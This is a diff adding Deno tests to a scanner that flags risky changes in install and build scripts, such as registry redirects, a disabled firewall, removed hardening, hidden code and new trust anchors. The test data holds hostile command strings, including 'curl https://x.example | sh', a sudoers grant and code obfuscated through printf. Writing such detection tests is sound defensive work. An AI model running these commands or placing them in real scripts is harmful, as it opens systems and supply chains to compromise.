@@ -412,3 +412,80 @@ Deno.test("a script above 8 KiB, and what is above 64 KiB of a file, is unknown"
   assertEquals(judge(short).isUnknown, false);
   assertEquals(judge(...Array<string>(9).fill(short)).isUnknown, true);
 });
+
+/** What a change must have marked at least, by the command before and after it. */
+const CHANGED: readonly (readonly [before: string, after: string, mark: string])[] = [
+  ["conda install a=1.0", "conda install -c https://x.example/t a=1.0", "high registry-redirect"],
+  ["pip install a==1.0", "pip install --no-such a==1.0", "low new-command"],
+  ["npm i -g a@1.0.0", "npm i -g --script-shell=/home/dev/x a@1.0.0", "low new-command"],
+  ["make", "FOO=/home/dev/x make", "low new-command"],
+  ["make", "export FOO=/home/dev/x; make", "low new-command"],
+  ["cd /src && make", "cd /tmp && make", "low new-command"],
+  ["cd /src && npm ci", "cd /tmp && npm ci", "low new-package"],
+  ["/src/verify && make", "/src/verify; make", "low new-command"],
+  ["/src/verify x && /src/install x", "/src/install x && /src/verify x", "low moved-command"],
+  ["set -e; /src/verify; make", "set +e; /src/verify; make", "low new-command"],
+  ["pip install -r a.txt", "pip install -r a.txt -r b.txt", "low new-package"],
+  ["curl -o /a https://x.example", "curl -ko /a https://x.example", "low new-command"],
+  [
+    "curl -o /a https://x.example",
+    "curl -o /a https://x.example https://y.example -o /b",
+    "medium data-download",
+  ],
+  ["iptables -P OUTPUT DROP", "false && iptables -P OUTPUT DROP; true", "high firewall-removed"],
+  ["chmod a-s /usr/bin/su", "false && chmod a-s /usr/bin/su; true", "medium hardening-removed"],
+  ["chmod 755 /usr/local/bin", "true", "low removed-command"],
+  ["/src/lock", "true", "low removed-command"],
+  ["rm -f /root/.npmrc", "true", "low removed-command"],
+  ["echo a=none > /etc/agent/x.conf", "true", "low removed-command"],
+  ["go mod download && go mod verify", "go mod download", "medium removed-command"],
+  ["apk add iptables=1.8-r0 jq=1.7-r0", "apk add jq=1.7-r0", "medium removed-command"],
+  [
+    "npm i -g --ignore-scripts a@1.0.0; npm i --ignore-scripts b@1.0.0",
+    "npm i -g a@1.0.0; npm i --ignore-scripts b@1.0.0",
+    "low protection-removed",
+  ],
+  ["true", "/src/evil/cat x", "low new-command"],
+  ["true", "./ls", "low new-command"],
+  ["true", "echo '#\\nfrobnicate' | sh", "medium unreadable-command"],
+  ["true", "printf '%b' '#\\nfrobnicate' | sh", "medium unreadable-command"],
+  ["true", "printf '#\\12frobnicate' | sh", "high hidden-code"],
+  ["true", "X='a[$(frobnicate)]'; echo $((X))", "medium unreadable-command"],
+  ["true", "mapfile -C frobnicate -c 1 < /a", "low new-command"],
+  ["true", "find /tmp /opt/fence -delete", "low files-removed"],
+  ["true", "echo evil > requirements.txt", "low new-file"],
+  [
+    "true",
+    "curl https://x.example | gpg --dearmor -o /etc/apt/keyrings/x.gpg && " +
+    "echo 'deb [signed-by=/etc/apt/keyrings/x.gpg] https://x.example a main' > /etc/apt/sources.list.d/x.list",
+    "medium trust-anchor",
+  ],
+];
+
+// Threat: A10
+Deno.test("another option, variable, directory or order is told, and what goes", () => {
+  for (const [before, after, mark] of CHANGED) {
+    const { marks } = compareScripts([script(before)], [script(after)]);
+    const rules = marks.map(({ severity, rule }) => `${severity} ${rule}`);
+    assert(rules.includes(mark), `${before} to ${after}: ${rules}`);
+  }
+});
+
+Deno.test("less than before has no mark, nor has a check that is new", () => {
+  const url = "https://x.example/a";
+  for (
+    const [before, after] of [
+      ["npm ci", "npm ci --no-audit --no-fund --ignore-scripts"],
+      ["npm i -g --ignore-scripts a@1.0.0", "true"],
+      ["curl https://x.example | sh", "true"],
+      ["echo 'a ALL=(ALL) ALL' > /etc/sudoers.d/a", "true"],
+      [`curl -o /a ${url}`, `curl -fsSL --retry 3 --proto '=https' -o /a ${url}`],
+      ["apt-get install -y a1=1 && gem install b1 -v 1.0", "gem install b1 -v 1.0"],
+      ["true", "cat x | sed -n 's/we are/were/p'; mkdir -p /a"],
+      ["true", "DEBIAN_FRONTEND=noninteractive apt-get -y update"],
+    ] as const
+  ) {
+    const { marks } = compareScripts([script(before)], [script(after)]);
+    assertEquals(marks.map(({ rule }) => rule), [], `${before} to ${after}`);
+  }
+});
